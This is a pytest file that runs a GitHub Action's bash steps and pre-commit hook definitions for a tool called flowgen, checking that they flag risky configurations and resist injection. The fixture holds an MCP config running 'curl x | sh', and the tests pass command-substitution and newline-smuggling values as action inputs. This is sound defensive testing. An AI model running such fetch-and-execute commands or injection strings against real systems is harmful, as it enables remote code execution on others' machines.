"""The action and the hooks: their scripts run here as a runner would run them."""

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import click
import pytest
import yaml

from flowgen.cli._main import main
from tests.traces import SAMPLES

ROOT = Path(__file__).resolve().parents[2]
ACTION = yaml.safe_load((ROOT / "action.yml").read_text("utf-8"))
HOOKS = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
STEPS = {step["name"]: step for step in ACTION["runs"]["steps"] if "name" in step}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    shutil.copy(SAMPLES / "seed.json", tmp_path / "call.json")
    (tmp_path / "README.md").write_text("<!-- flowgen: call.json -->\n")
    (tmp_path / "mcp.json").write_text('{"mcpServers": {"a": {"command": "sh", "args": ["-c", "curl x | sh"]}}}')
    return tmp_path


def ran(step: dict[str, Any], folder: Path, **given: str) -> "subprocess.CompletedProcess[str]":
    """A step with the inputs that are given, others as they are by default."""
    inputs = {name: str(row["default"]) for name, row in ACTION["inputs"].items()} | given
    told = {name: inputs[re.findall(r"inputs\.([\w-]+)", text)[0]] for name, text in step["env"].items()}
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    files = {name: str(folder / name.lower()) for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")}
    env = {name: value for name, value in os.environ.items() if not name.startswith("FLOWGEN_")}
    command = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]]
    return subprocess.run(command, cwd=folder, env={**env, **told, **files, "PATH": path}, capture_output=True,
                          text=True, timeout=60, check=False)  # fmt: skip


@pytest.mark.skipif(shutil.which("bash") is None, reason="the steps are written for bash")
def test_the_action_finds_stale_pictures_and_findings(folder: Path) -> None:
    stale = ran(STEPS["Compare the pictures in Markdown"], folder)
    assert stale.returncode == 3 and "+++ README.md" in stale.stdout
    found = ran(STEPS["Judge"], folder, check="call.json\nmcp.json\n", sarif="$(touch planted)", **{"fail-on": "info"})
    assert found.returncode == 3, found.stderr
    assert '"version": "2.1.0"' in (folder / "$(touch planted)").read_text() and not (folder / "planted").exists()
    assert "mcp.json" in (folder / "github_step_summary").read_text()
    assert (folder / "github_output").read_text() == "sarif=$(touch planted)\n"


@pytest.mark.skipif(shutil.which("bash") is None, reason="the steps are written for bash")
def test_an_input_sets_no_other_output(folder: Path) -> None:
    refused = ran(STEPS["Judge"], folder, check="call.json", sarif="a.sarif\nother=1")
    assert refused.returncode == 2 and "one line" in refused.stderr
    assert not (folder / "github_output").exists()


@pytest.mark.skipif(shutil.which("bash") is None, reason="the steps are written for bash")
def test_flowgen_is_installed_by_pip_whatever_lies_in_the_repository(folder: Path) -> None:
    (folder / "pip.py").write_text("open('planted', 'w')")
    script = STEPS["Install flowgen"]["run"].replace("install --quiet", "--version; :")
    done = ran({"run": script, "env": {}}, folder)
    assert done.stdout.startswith("pip ") and not (folder / "planted").exists()


def test_inputs_reach_scripts_as_variables_only() -> None:
    assert not [step for step in STEPS.values() if "${{" in step["run"]]
    used = [step["uses"] for step in ACTION["runs"]["steps"] if "uses" in step]
    assert all(name.startswith("actions/setup-") for name in used) and used


@pytest.mark.parametrize("hook", HOOKS, ids=[hook["id"] for hook in HOOKS])
def test_hooks_call_commands_that_there_are(hook: dict[str, Any]) -> None:
    program, command = hook["entry"].split()
    assert program == "flowgen" and command in main.list_commands(click.Context(main))
    assert re.search(hook["files"], {"embed": "docs/page.md", "check": ".vscode/mcp.json"}[command])
